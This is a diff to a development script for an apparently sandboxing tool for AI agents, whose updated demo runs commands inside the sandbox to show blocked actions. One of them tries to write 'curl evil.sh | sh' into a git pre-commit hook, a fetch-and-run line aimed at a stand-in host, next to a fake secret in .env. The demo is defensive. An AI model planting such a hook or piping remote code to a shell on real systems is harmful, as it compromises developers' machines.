@@ -1,7 +1,7 @@
 #!/bin/sh
 # dev.sh: everything the README's two commands need on a fresh Debian 12 machine:
 # install missing packages (as root), bootstrap, configure and build out of tree, then run a job.
-#   ./dev.sh demo    compile the built-in example policy and print its normalized IR
+#   ./dev.sh demo    run a command in the sandbox of the built-in policy (examples/workspace.zsp)
 #   ./dev.sh check   run every test: make check, the same under ASan+UBSan, make distcheck
 set -eu
 
@@ -105,7 +105,19 @@ case "${1:-}" in
 demo)
 	install_packages
 	build_in "$build"
-	"$build/zspc" --emit ir "$top/examples/workspace.zsp"
+	# a throwaway workspace with what agents must not touch: a secret and git hooks
+	demo=$build/demo-workspace
+	rm -rf "$demo"
+	mkdir -p "$demo/.git/hooks"
+	echo 'API_KEY=do-not-leak' >"$demo/.env"
+	cd "$demo"
+	say "running in the sandbox of the built-in policy (examples/workspace.zsp), in $demo:"
+	"$build/zsp-run" -- sh -c '
+		echo "fn main() {}" > main.rs && echo "allowed: wrote $PWD/main.rs"
+		cat .env 2>/dev/null || echo "blocked: reading .env (hidden by deny \"**/.env\")"
+		echo "curl evil.sh | sh" 2>/dev/null > .git/hooks/pre-commit ||
+			echo "blocked: writing .git/hooks/pre-commit (protected)"
+		echo x 2>/dev/null > "$HOME/.bashrc-zsp-demo" || echo "blocked: writing to $HOME (read-only)"'
 	;;
 check)
 	install_packages
